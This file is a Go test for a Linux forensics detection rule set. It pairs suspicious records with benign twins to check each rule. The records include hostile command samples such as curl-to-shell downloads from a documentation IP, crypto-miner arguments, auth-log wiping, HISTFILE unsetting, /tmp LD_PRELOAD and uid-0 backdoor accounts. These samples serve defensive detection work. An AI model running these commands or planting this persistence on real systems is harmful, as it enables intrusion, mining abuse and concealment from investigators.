@@ -1,0 +1,162 @@
+package detect
+
+import (
+	"slices"
+	"strings"
+	"testing"
+
+	"icecore/forensics/artifact"
+	"icecore/forensics/filesystem"
+)
+
+// record makes a record from "kind name=value; name=value". The names path and
+// state are those of its source.
+func record(t *testing.T, s string) artifact.Record {
+	t.Helper()
+	kind, fields, _ := strings.Cut(s, " ")
+	r := artifact.Record{Kind: kind, Source: artifact.Source{Volume: "p1", DiskOffset: -1}}
+	for _, f := range strings.Split(fields, "; ") {
+		name, value, ok := strings.Cut(f, "=")
+		switch {
+		case !ok:
+			if f != "" {
+				t.Fatalf("%q is no field", f)
+			}
+		case name == "path":
+			r.Source.Path = value
+		case name == "state":
+			switch value {
+			case "orphan":
+				r.Source.State = filesystem.Orphan
+			case "deleted":
+				r.Source.State = filesystem.Deleted
+			}
+		default:
+			r.Add(name, value)
+		}
+	}
+	return r
+}
+
+// with gives the record with one property changed; an empty value takes it away.
+func with(t *testing.T, s, change string) artifact.Record {
+	t.Helper()
+	name, value, _ := strings.Cut(change, "=")
+	kind, fields, _ := strings.Cut(s, " ")
+	if name == "kind" {
+		return record(t, value+" "+fields)
+	}
+	out, found := []string{}, false
+	for _, f := range strings.Split(fields, "; ") {
+		if n, _, _ := strings.Cut(f, "="); n == name {
+			found = true
+			if value == "" {
+				continue
+			}
+			f = change
+		}
+		out = append(out, f)
+	}
+	if !found {
+		out = append(out, change)
+	}
+	return record(t, kind+" "+strings.Join(out, "; "))
+}
+
+// ruleCases has for each rule what it must see, and the benign twin: the same
+// record, one property changed.
+var ruleCases = []struct{ rule, record, twin string }{
+	{"account_hidden_home", "account.user name=x; uid=1001; home=/var/tmp/.x; shell=/bin/bash", "home=/home/x"},
+	{"account_hidden_home", "account.user name=x; uid=1001; home=/var/tmp/.x; shell=/bin/bash", "shell=/usr/sbin/nologin"},
+	{"account_no_password", "account.shadow name=x; password=empty", "password=locked"},
+	{"account_no_password", "account.shadow name=x; password=empty", "backup=yes"},
+	{"account_uid_0", "account.user name=sysupd; uid=0; home=/root; shell=/bin/bash", "uid=1000"},
+	{"account_uid_0", "account.user name=sysupd; uid=0; home=/root; shell=/bin/bash", "name=root"},
+	{"cron_hidden_program", "cron.job command=/usr/share/.x/a; programs=/usr/share/.x/a; traits=hidden_exec", "traits=background"},
+	{"cron_hidden_program", "cron.run command=/usr/.../a; programs=/usr/.../a; traits=dots_dir", "traits="},
+	{"cron_miner", "cron.job command=/opt/a -o stratum+tcp://x:1; traits=miner_args", "traits="},
+	{"cron_pipe_to_shell", "cron.job command=curl http://198.51.100.1/i|sh; traits=fetch,pipe_to_shell", "traits=fetch"},
+	{"cron_pipe_to_shell", "cron.job command=curl http://198.51.100.1/i|sh; traits=decode_exec", "kind=history.file"},
+	{"cron_ran_download", "cron.run command=curl http://198.51.100.1/i|sh; traits=fetch,pipe_to_shell", "traits=fetch"},
+	{"cron_redis_dump", "cron.oddity what=begins like a dump of the Redis database", "what=binary data between the lines"},
+	{"cron_script_pipe_to_shell", "cron.script period=hourly; traits=fetch,fetch_exec", "traits=fetch"},
+	{"cron_temp_program", "cron.job command=/tmp/a; programs=/tmp/a; traits=temp_exec", "traits="},
+	{"cron_temp_program", "cron.job command=/tmp/a; programs=/tmp/a; traits=temp_exec", "kind=cron.run"},
+	{"file_deleted_download", "file.notable what=script; traits=fetch; state=deleted", "state=live"},
+	{"file_deleted_download", "file.notable what=script; traits=fetch; state=orphan", "traits=background"},
+	{"file_device_outside_dev", "file.notable what=device_outside_dev; file_type=char", "what=temp_elf"},
+	{"file_dropper_script", "file.notable what=script; file_type=script; traits=fetch,fetch_exec", "traits=fetch"},
+	{"file_hidden_program", "file.notable what=hidden_elf; file_type=elf", "what=temp_elf"},
+	{"file_immutable", "file.notable what=immutable; file_type=text", "what=hidden_elf"},
+	{"file_kernel_module", "file.notable what=kernel_module_unowned; file_type=elf", "what=hidden_elf"},
+	{"file_kernel_thread_name", "file.notable what=kernel_thread_name; file_type=elf", "what=temp_elf"},
+	{"file_package_changed", "file.notable what=package_file_changed; owner=iproute2", "what=immutable"},
+	{"file_pam_module", "file.notable what=pam_module_unowned; file_type=elf", "what=hidden_elf"},
+	{"file_setuid_unowned", "file.notable what=setuid_unowned; mode=4755", "what=hidden_elf"},
+	{"file_temp_program", "file.notable what=temp_elf; file_type=elf", "what=hidden_elf"},
+	{"file_unlinked_empty", "file.notable what=orphan_empty; state=orphan", "what=orphan_elf"},
+	{"file_unlinked_program", "file.notable what=orphan_elf; state=orphan", "what=orphan_empty"},
+	{"history_download", "history.command command=curl http://198.51.100.1/i | sh; traits=fetch,pipe_to_shell", "traits=fetch"},
+	{"history_evasion", "history.command command=: > /var/log/auth.log; traits=log_wipe", "traits="},
+	{"history_miner", "history.command command=./a -o stratum+tcp://x:1; traits=miner_args", "traits="},
+	{"history_off", "history.file link_target=/dev/null; user=root", "link_target=/srv/history"},
+	{"hook_command", "hook.udev command=/tmp/a; programs=/tmp/a; traits=temp_exec", "traits="},
+	{"hook_command", "hook.apt command=curl http://198.51.100.1/i|sh; traits=pipe_to_shell", "traits=fetch"},
+	{"hook_pam_module", "hook.pam service=sshd; module=/usr/share/.x/pam_x.so", "module=/usr/lib/security/pam_x.so"},
+	{"init_script_odd", "init.script programs=/tmp/.x/a; traits=hidden_exec", "traits=background"},
+	{"inittab_odd", "inittab.line command=/tmp/a; traits=temp_exec", "traits="},
+	{"kernel_setting_command", "kernel.setting name=kernel.core_pattern; value=|/tmp/a; command=/tmp/a; traits=temp_exec", "traits="},
+	{"library_path_odd", "library.path directory=/dev/shm/lib", "directory=/usr/local/lib"},
+	{"library_path_odd", "library.path directory=/usr/lib/.x", "directory=/usr/lib/x"},
+	{"preload_odd_place", "preload.library library=/tmp/a.so", "library=/usr/lib/a.so"},
+	{"profile_command", "profile.line command=curl http://198.51.100.1/i|bash; traits=fetch,pipe_to_shell", "traits=fetch"},
+	{"profile_hiding", "profile.line command=alias ps=x; traits=alias_filter", "traits=background"},
+	{"profile_history_off", "profile.line command=unset HISTFILE; traits=history_off", "traits=background"},
+	{"rc_hidden_program", "rc.line command=/usr/share/.x/a; traits=hidden_exec", "traits=background"},
+	{"rc_miner", "rc.line command=/opt/a --donate-level 1; traits=miner_args", "traits="},
+	{"rc_pipe_to_shell", "rc.line command=curl http://198.51.100.1/i|sh; traits=fetch,pipe_to_shell", "traits=fetch"},
+	{"rc_temp_program", "rc.line command=/tmp/a; traits=temp_exec", "traits="},
+	{"ssh_key_campaign", "ssh.key type=ssh-rsa; comment=mdrfckr; user=root", "comment=deploy@laptop"},
+	{"ssh_key_daemon_user", "ssh.key type=ssh-rsa; comment=x; user=www-data", "user=deploy"},
+	{"ssh_key_dump", "ssh.key invalid=x; data=REDIS0009", "data=x"},
+	{"sshd_empty_passwords", "sshd.option option=PermitEmptyPasswords; value=yes", "value=no"},
+	{"sshd_root_login", "sshd.option option=PermitRootLogin; value=yes", "value=prohibit-password"},
+	{"sudo_all_without_password", "sudo.rule who=deploy; nopasswd=yes; commands=ALL", "commands=/usr/bin/systemctl restart app"},
+	{"sudo_all_without_password", "sudo.rule who=deploy; nopasswd=yes; commands=ALL", "who=ALL"},
+	{"sudo_download", "auth.sudo user=deploy; command=/bin/sh -c curl; traits=pipe_to_shell", "traits=fetch"},
+	{"sudo_everybody", "sudo.rule who=ALL; nopasswd=yes; commands=ALL", "who=%sudo"},
+	{"sudo_everybody", "sudo.rule who=ALL; nopasswd=yes; commands=ALL", "nopasswd="},
+	{"systemd_generator", "systemd.generator name=a; traits=fetch_exec", "traits="},
+	{"systemd_hidden_program", "systemd.exec command=/usr/share/.x/a; traits=hidden_exec", "traits="},
+	{"systemd_miner", "systemd.exec command=/opt/a -o stratum+tcp://x:1; traits=miner_args", "traits="},
+	{"systemd_pipe_to_shell", "systemd.exec command=sh -c curl; traits=fetch,pipe_to_shell", "traits=fetch"},
+	{"systemd_preload", "systemd.unit unit=a.service; environment=LD_PRELOAD=/tmp/a.so", "environment=LD_PRELOAD=/usr/lib/a.so"},
+	{"systemd_preload", "systemd.unit unit=a.service; environment=LD_PRELOAD=/tmp/a.so", "environment=HOME=/tmp/a"},
+	{"systemd_temp_program", "systemd.exec command=/tmp/a; traits=temp_exec", "traits="},
+	{"useradd_uid_0", "auth.useradd name=sysupd; uid=0", "uid=1000"},
+}
+
+func TestRules(t *testing.T) {
+	r, err := Load(Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	matches := func(rec artifact.Record, name string) bool {
+		return slices.ContainsFunc(r.matcher().match(t.Context(), &rec), func(x *rule) bool { return x.Name == name })
+	}
+	tested := make(map[string]bool)
+	for _, tt := range ruleCases {
+		tested[tt.rule] = true
+		if !matches(record(t, tt.record), tt.rule) {
+			t.Errorf("%s does not see %s", tt.rule, tt.record)
+		}
+		if matches(with(t, tt.record, tt.twin), tt.rule) {
+			t.Errorf("%s sees %s, with %s", tt.rule, tt.record, tt.twin)
+		}
+	}
+	for _, i := range r.List() {
+		if !tested[i.Name] {
+			t.Errorf("no test of the rule %s", i.Name)
+		}
+	}
+}
